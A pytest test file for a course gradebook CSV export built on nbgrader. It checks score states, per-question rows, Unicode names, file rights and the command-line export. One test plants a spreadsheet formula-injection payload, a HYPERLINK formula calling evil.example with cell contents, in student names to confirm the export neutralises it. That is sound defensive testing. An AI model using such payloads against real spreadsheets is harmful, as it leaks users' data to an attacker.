"""Marks as CSV: no mark, a mark that does not stand, and 0 are different, and all names arrive as they are."""

import csv
import io
import os
import shutil
import stat
import subprocess
import sys
from types import SimpleNamespace

import pytest
import small_course
from nbgrader.utils import capture_log
from small_course import NAME, SmallCourse, here
from test_term_status import answers, mark

from workbook.grading import batch, workers
from workbook.term.autograder import HardenedAutograde
from workbook.term.export import QUESTIONS, TOTALS, CourseExport

BLANK = {"raw_score": "", "late_submission_penalty": "", "score": ""}


@pytest.fixture
def small(tmp_path, monkeypatch, registered):
    monkeypatch.setattr(workers, "run", here)
    monkeypatch.setattr(HardenedAutograde, "opener", staticmethod(small_course.by_text))
    return SmallCourse(tmp_path / "course", registered)


def exported(small, **options):
    """Export as nbgrader's command does, and return the rows in the file, and what was logged."""
    path = small.folder / "grades.csv"
    plugin = CourseExport(parent=small.api, to=str(path), **options)
    with small.gradebook() as gradebook:
        done = capture_log(SimpleNamespace(start=lambda: plugin.export(gradebook), log=plugin.log))
    assert done["success"], done
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file)), done.get("log", "")


def by_student(rows):
    return {row["student_id"]: row for row in rows}


def hold(small, *students, due="2020-01-01 12:00:00"):
    """Enter students, and when the assignment is due."""
    with small.gradebook() as gradebook:
        for student in students:
            gradebook.add_student(student)
        gradebook.update_or_create_assignment(NAME, duedate=due)


def test_missing_not_graded_waiting_excused_and_0_are_different(small, monkeypatch):
    hold(small, "missing", "excused", "excused too")
    for student in ("zero", "full", "waiting", "doubt", "anew", "excused too"):
        wrong = student == "zero"
        small.hand_in(student, **answers(*["wrong", "wrong"] if wrong else ["FAULT"] if student == "doubt" else []))
    small.autograde()
    for student in ("zero", "full", "doubt", "anew"):
        mark(small, student, 0.0 if student == "zero" else 3.0)
    small.hand_in("anew", **answers(two="HALF"))
    small.hand_in("new", **answers())
    (small.folder / "excused.csv").write_text(f"assignment;student_id\n{NAME};excused\n{NAME};excused too\n")
    rows, _ = exported(small)
    found = by_student(rows)
    assert {student: (row["state"], row["score"]) for student, row in found.items()} == {
        "missing": ("missing", ""),
        "excused": ("excused", ""),
        "excused too": ("excused", ""),
        "zero": ("graded", "0.0"),
        "full": ("graded", "6.0"),
        "waiting": ("waiting", ""),
        "doubt": ("waiting", ""),
        "anew": ("not graded", ""),
        "new": ("not graded", ""),
    }
    assert {row["max_score"] for row in rows} == {"6.0"}
    for student in ("missing", "excused", "anew", "new"):
        assert {key: found[student][key] for key in BLANK} == BLANK
    assert found["waiting"]["raw_score"] == "3.0"
    # Marks by an older grader stand, and are named.
    version = batch.version()
    monkeypatch.setattr(batch, "version", lambda *_: version[::-1])
    rows, log = exported(small)
    found = by_student(rows)
    assert (found["full"]["state"], found["full"]["score"]) == ("older", "6.0")
    assert found["waiting"]["state"] == "waiting"
    assert "older marks: full, zero" in log
    assert f"Run `workbook autograde {NAME}`" in log


def test_each_question_has_a_line_if_asked(small):
    hold(small, "missing")
    small.hand_in("anna", **answers(one="HALF"))
    small.hand_in("ben", **answers(one="FAULT"))
    small.autograde()
    mark(small, "ben")
    rows, _ = exported(small, questions=True)
    assert list(rows[0]) == list(QUESTIONS)
    found = {(row["student_id"], row["question"]): row for row in rows}
    assert [row["question"] for row in rows[:3]] == ["check-one", "check-two", "words"]
    seen = {key: (row["state"], row["score"], row["max_score"], row["kind"]) for key, row in found.items()}
    assert seen == {
        ("anna", "check-one"): ("graded", "1.0", "2.0", "checked"),
        ("anna", "check-two"): ("graded", "1.0", "1.0", "checked"),
        ("anna", "words"): ("waiting", "", "3.0", "by hand"),
        ("ben", "check-one"): ("waiting", "", "2.0", "checked"),
        ("ben", "check-two"): ("graded", "1.0", "1.0", "checked"),
        ("ben", "words"): ("graded", "3.0", "3.0", "by hand"),
        ("missing", "check-one"): ("missing", "", "2.0", "checked"),
        ("missing", "check-two"): ("missing", "", "1.0", "checked"),
        ("missing", "words"): ("missing", "", "3.0", "by hand"),
    }
    assert (found["ben", "words"]["auto_score"], found["ben", "words"]["manual_score"]) == ("", "3.0")


NAMES = {
    "a": ('O\'Hara, "Bo"', "Zoë"),
    "b": ("Müller-Lüdenscheidt", "Jürgen;Karl"),
    "c": ("李", "雷\tx"),
    "d": ("two\nlines", "  spaces "),
    "e": ("नीलम", "ß€\u2028"),
}


def test_names_arrive_as_they_are(small):
    with small.gradebook() as gradebook:
        for student, (last, first) in NAMES.items():
            gradebook.add_student(student, last_name=last, first_name=first, email=f"{student}@uni.example")
        gradebook.add_student("nameless")
    rows, _ = exported(small)
    found = {row["student_id"]: (row["last_name"], row["first_name"]) for row in rows}
    assert found == NAMES | {"nameless": ("", "")}
    assert list(rows[0]) == list(TOTALS)


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "＝", "＠"])
def test_no_name_is_a_formula(small, first):
    formula = f'{first}HYPERLINK("http://evil.example/"&A1,"x")'
    with small.gradebook() as gradebook:
        gradebook.add_student("anna", last_name=formula, first_name="a=b", email=formula)
    (row,), _ = exported(small)
    assert row["last_name"] == row["email"] == f"'{formula}"
    assert row["first_name"] == "a=b"


def test_what_is_written_goes_through_pandas_and_a_spreadsheet_as_it_is(small):
    hold(small, "missing")
    small.hand_in("anna", **answers())
    small.autograde()
    mark(small, "anna", -1.0)
    with small.gradebook() as gradebook:
        gradebook.update_or_create_student("anna", last_name='Öz, "A"')
    rows, _ = exported(small)
    data = (small.folder / "grades.csv").read_bytes()
    # The mark by which spreadsheets know UTF-8.
    assert data.startswith(b"\xef\xbb\xbfassignment,duedate,")
    (anna,) = [row for row in rows if row["student_id"] == "anna"]
    assert (anna["score"], anna["last_name"]) == ("2.0", 'Öz, "A"')
    per_question, _ = exported(small, questions=True)
    assert "-1.0" in {row["score"] for row in per_question}  # a number, not a text
    pandas = pytest.importorskip("pandas")
    table = pandas.read_csv(io.BytesIO(data)).set_index("student_id")
    assert table.loc["anna", "score"] == 2.0
    assert pandas.isna(table.loc["missing", "score"])
    again = io.StringIO()
    table.reset_index()[list(TOTALS)].to_csv(again, index=False)
    again.seek(0)
    assert list(csv.DictReader(again)) == rows


def test_an_assignment_that_was_not_held_has_no_zeros(small):
    hold(small, "anna", "ben", due="2099-01-01 12:00:00")
    rows, _ = exported(small)
    assert {(row["state"], row["score"]) for row in rows} == {("not due", "")}
    hold(small, due=None)
    assert {row["state"] for row in exported(small)[0]} == {"not due"}
    # Somebody has handed in: the others may have missed it.
    small.hand_in("ben", **answers())
    assert {s: row["state"] for s, row in by_student(exported(small)[0]).items()} == {
        "anna": "missing",
        "ben": "not graded",
    }


def test_a_removed_student_is_gone(small):
    for student in ("anna", "ben"):
        small.hand_in(student, **answers())
    small.autograde()
    with small.gradebook() as gradebook:
        gradebook.remove_student("ben")
    rows, log = exported(small)
    assert list(by_student(rows)) == ["anna"]
    assert f"{NAME}: left out, because the gradebook has them no more: ben." in log
    # Whose folder alone is gone has marks in the gradebook.
    shutil.rmtree(small.folder / "submitted" / "anna")
    mark(small, "anna")
    assert by_student(exported(small)[0])["anna"]["score"] == "6.0"


def test_a_lost_gradebook_has_no_marks_and_no_zeros(small):
    small.hand_in("anna", **answers())
    small.autograde()
    (small.folder / "gradebook.db").unlink()
    small.register()
    rows, _ = exported(small)
    assert [(row["student_id"], row["state"], row["score"]) for row in rows] == [("anna", "not graded", "")]


def test_only_who_and_what_was_asked_for(small):
    hold(small, "anna", "ben")
    rows, log = exported(small, student=["ben", "zoe"], assignment=[NAME, "02_none"])
    assert [row["student_id"] for row in rows] == ["ben"]
    assert "There is no student zoe." in log
    assert "There is no assignment 02_none." in log


@pytest.mark.skipif(os.name == "nt", reason="rights are those of POSIX")
def test_the_file_keeps_its_rights_and_one_that_cannot_be_written_is_named(small):
    path = small.folder / "grades.csv"
    path.touch(0o600)
    exported(small)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    with small.gradebook() as gradebook, pytest.raises(SystemExit, match=r"x\.csv cannot be written: No such file"):
        CourseExport(parent=small.api, to=str(small.folder / "none" / "x.csv")).export(gradebook)


def test_nbgraders_command_uses_it(small):
    hold(small, "anna")
    small.settings_file()
    command = [sys.executable, "-m", "nbgrader", "export"]
    subprocess.run(command, cwd=small.folder, check=True, capture_output=True)
    assert b"missing" in (small.folder / "grades.csv").read_bytes()
    more = ["--CourseExport.questions=True"]
    done = subprocess.run([*command, *more], cwd=small.folder, check=True, capture_output=True, text=True)
    assert "questions.csv" in done.stderr
    assert "WARNING" not in done.stderr
    assert (small.folder / "questions.csv").read_text(encoding="utf-8-sig").startswith(",".join(QUESTIONS))
